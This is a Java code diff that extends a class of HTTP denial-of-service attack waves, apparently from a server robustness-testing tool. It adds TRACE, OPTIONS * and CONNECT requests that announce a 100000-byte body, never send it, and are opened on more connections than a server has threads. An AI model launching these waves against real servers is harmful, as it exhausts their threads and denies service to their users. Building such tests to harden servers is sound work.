@@ -5,6 +5,10 @@ import java.util.List;
 /** Requests that announce a body and never send it, to what is answered without it. */
 public final class WithheldBodies {
     private static final int CONNECTIONS = 150;
+
+    /** A server that waits for them has no thread left. */
+    private static final int MORE_THAN_THREADS = 300;
+
     private static final String LENGTH = "Content-Length: 100000\n\n";
 
     private WithheldBodies() {}
@@ -42,15 +46,26 @@ public final class WithheldBodies {
                                                 n -> Frames.request("POST", "/_tunnel/nothing", 2 * n + 1, true)))))));
     }
 
-    /** Methods that a server answers by itself. */
-    public static List<Attack> methods() {
+    /** A method that servers like to answer by themselves, and need not. */
+    public static List<Attack> trace() {
+        return Attack.chosen(Attack.usual("TRACE, body withheld", withheld(MORE_THAN_THREADS, "TRACE /page", LENGTH)));
+    }
+
+    /** Requests to the server itself, which some answer before any application is asked. */
+    public static List<Attack> toTheServer() {
+        Wave options = withheld(MORE_THAN_THREADS, "OPTIONS *", LENGTH);
+        Wave connect = withheld(MORE_THAN_THREADS, "CONNECT h:80", LENGTH);
         return Attack.chosen(
-                Attack.usual("TRACE, body withheld", withheld("TRACE /page", LENGTH)),
-                Attack.of("OPTIONS *, body withheld", withheld("OPTIONS *", LENGTH)),
-                Attack.of("CONNECT, body withheld", withheld("CONNECT h:80", LENGTH)));
+                Attack.usual("OPTIONS * and CONNECT, body withheld", options, connect),
+                Attack.of("OPTIONS *, body withheld", options),
+                Attack.of("CONNECT, body withheld", connect));
     }
 
     private static Wave withheld(String request, String fields) {
-        return Wave.of(CONNECTIONS, Striker.sending(request + " HTTP/1.1\nHost: h\n" + fields));
+        return withheld(CONNECTIONS, request, fields);
+    }
+
+    private static Wave withheld(int connections, String request, String fields) {
+        return Wave.of(connections, Striker.sending(request + " HTTP/1.1\nHost: h\n" + fields));
     }
 }
